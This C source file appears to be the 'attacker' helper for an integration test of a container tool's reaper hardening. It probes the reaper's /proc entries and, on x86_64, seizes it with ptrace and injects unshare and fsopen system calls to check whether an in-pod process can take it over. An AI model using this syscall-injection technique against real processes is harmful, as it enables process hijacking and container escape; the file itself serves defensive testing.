/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The attacker of tests/integration/harden-reaper.sh: a process in the pod
 * that goes after podenter's reaper. Built static, so a test can also plant
 * it as a container's /bin/sh (a session then runs it as its command, the
 * reaper its parent). Prints one "probe result" line per attempt.
 *
 *   reaper-attack [PID]     PID: the reaper as this process sees it
 *                           (default: the parent)
 *
 * With CAP_SYS_PTRACE it takes the reaper over (x86_64): seize, interrupt,
 * then make it execute system calls of the attacker's choice: wait4 (which
 * the reaper uses: proves the injection works), unshare(CLONE_NEWNS) and
 * fsopen("proc") (what a takeover is for: a fresh, unmasked procfs).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[128];

static const char *proc(pid_t pid, const char *what)
{
	snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, what);
	return path;
}

static const char *err_name(int e)
{
	switch (e) {
	case 0:
		return "ok";
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case ETXTBSY:
		return "ETXTBSY";
	case ENOENT:
		return "ENOENT";
	case ENOTDIR:
		return "ENOTDIR";
	case ESRCH:
		return "ESRCH";
	case EINVAL:
		return "EINVAL";
	default:
		return "EOTHER";
	}
}

static void try_open(const char *probe, const char *p, int flags)
{
	int fd = open(p, flags);

	printf("%s %s\n", probe, err_name(fd < 0 ? errno : 0));
	if (fd >= 0)
		close(fd);
}

static void status_lines(pid_t pid)
{
	char line[256];
	FILE *f = fopen(proc(pid, "status"), "r");

	if (!f) {
		printf("status %s\n", err_name(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		char key[64], val[128];

		if (sscanf(line, "%63[^:]:%127s", key, val) == 2 &&
		    (!strncmp(key, "Cap", 3) || !strcmp(key, "NoNewPrivs") ||
		     !strcmp(key, "Seccomp")))
			printf("status-%s %s\n", key, val);
	}
	fclose(f);
}

/* every file the reaper maps, on one line */
static void mapped_files(pid_t pid)
{
	char line[512], seen[2048] = "";
	FILE *f = fopen(proc(pid, "maps"), "r");

	if (!f) {
		printf("maps %s\n", err_name(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		char *p = strchr(line, '/');

		if (!p)
			continue;
		p[strcspn(p, "\n")] = '\0';
		if (!strstr(seen, p) &&
		    strlen(seen) + strlen(p) + 2 < sizeof(seen)) {
			strcat(seen, p);
			strcat(seen, "|");
		}
	}
	fclose(f);
	printf("maps-files %s\n", seen);
}

#ifdef __x86_64__
static long inject(pid_t pid, const struct user_regs_struct *saved,
		   unsigned long insn, long nr, long a0, long a1, long a2)
{
	struct user_regs_struct r = *saved;
	int st;

	r.rip = insn;
	r.rax = (unsigned long)nr;
	r.orig_rax = (unsigned long)-1; /* no syscall restart on resume */
	r.rdi = (unsigned long)a0;
	r.rsi = (unsigned long)a1;
	r.rdx = (unsigned long)a2;
	r.r10 = r.r8 = r.r9 = 0;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 ||
	    ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 ||
	    waitpid(pid, &st, __WALL) < 0 ||
	    ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
		return -1000 - errno;
	return (long)r.rax;
}

static void print_result(const char *probe, long rc)
{
	if (rc <= -1000)
		printf("%s ptrace-failed\n", probe);
	else if (rc < 0)
		printf("%s %s\n", probe, err_name((int)-rc));
	else
		printf("%s ok\n", probe);
}

static void take_over(pid_t pid)
{
	struct user_regs_struct saved;
	unsigned long insn, word = 0;
	int st;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
		printf("ptrace-seize %s\n", err_name(errno));
		return;
	}
	printf("ptrace-seize ok\n");
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 ||
	    waitpid(pid, &st, __WALL) < 0 ||
	    ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
		printf("inject-setup %s\n", err_name(errno));
		goto out;
	}
	/* stopped in a system call: rip is right after its instruction */
	insn = saved.rip - 2;
	errno = 0;
	word = (unsigned long)ptrace(PTRACE_PEEKTEXT, pid, insn, 0);
	if (errno || (word & 0xffff) != 0x050f) {
		printf("inject-setup no-syscall-instruction\n");
		goto out;
	}
	/* "proc" below the reaper's stack pointer, past the red zone */
	memcpy(&word, "proc\0\0\0", 8);
	ptrace(PTRACE_POKEDATA, pid, saved.rsp - 512, word);
	print_result("inject-wait4",
		     inject(pid, &saved, insn, SYS_wait4, -1, 0, WNOHANG));
	print_result("inject-unshare",
		     inject(pid, &saved, insn, SYS_unshare, CLONE_NEWNS, 0, 0));
	print_result("inject-fsopen",
		     inject(pid, &saved, insn, 430 /* fsopen */,
			    (long)(saved.rsp - 512), 0, 0));
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
out:
	ptrace(PTRACE_DETACH, pid, 0, 0);
}
#else
static void take_over(pid_t pid)
{
	(void)pid;
	printf("ptrace-seize skipped\n");
}
#endif

int main(int argc, char **argv)
{
	pid_t pid = argc > 1 ? (pid_t)atoi(argv[1]) : getppid();
	char buf[4096];
	struct stat st;
	ssize_t n;
	int fd;

	setvbuf(stdout, NULL, _IOLBF, 0);
	/* the first look, before anything else: run as the session's command,
	 * the reaper must not be podenter's code any more (traceguard.h) */
	n = readlink(proc(pid, "exe"), buf, sizeof(buf) - 1);
	printf("first-exe %s\n", n < 0 ? err_name(errno) : (buf[n] = 0, buf));
	/* the reaper replaces podenter's code once the command runs: give
	 * it up to 2 s (a reaper that never does is reported as it is) */
	for (int i = 0; i < 200; i++) {
		fd = open(proc(pid, "comm"), O_RDONLY);
		n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
		if (fd >= 0)
			close(fd);
		buf[n > 0 ? n - 1 : 0] = '\0';
		if (!strcmp(buf, "podenter-reaper"))
			break;
		usleep(10000);
	}
	printf("target %d %s\n", (int)pid, buf);
	status_lines(pid);
	n = readlink(proc(pid, "exe"), buf, sizeof(buf) - 1);
	printf("exe-link %s\n", n < 0 ? err_name(errno) : (buf[n] = 0, buf));
	if (stat(proc(pid, "exe"), &st) == 0)
		printf("exe-stat %lu:%lu\n", (unsigned long)st.st_dev,
		       (unsigned long)st.st_ino);
	else
		printf("exe-stat %s\n", err_name(errno));
	try_open("exe-open-write", proc(pid, "exe"), O_WRONLY);
	try_open("exe-open-rdwr", proc(pid, "exe"), O_RDWR);
	mapped_files(pid);
	fd = open(proc(pid, "environ"), O_RDONLY);
	n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));
	printf("environ-bytes %s\n",
	       fd < 0 ? err_name(errno)
		      : (snprintf(buf, sizeof(buf), "%zd", n), buf));
	if (fd >= 0)
		close(fd);
	n = readlink(proc(pid, "cwd"), buf, sizeof(buf) - 1);
	printf("cwd-link %s\n", n < 0 ? err_name(errno) : (buf[n] = 0, buf));
	/* its fds: how many, and whether one leads anywhere beyond itself */
	n = 0;
	for (int i = 0; i < 64; i++) {
		char link[64];

		snprintf(link, sizeof(link), "/proc/%d/fd/%d", (int)pid, i);
		if (access(link, F_OK) == 0 || errno != ENOENT)
			n++;
	}
	printf("fd-count %zd\n", n);
	try_open("fd0-parent", proc(pid, "fd/0/.."), O_RDONLY);
	try_open("fd0-procroot", proc(pid, "fd/0/../../.."), O_RDONLY);
	take_over(pid);
	return 0;
}
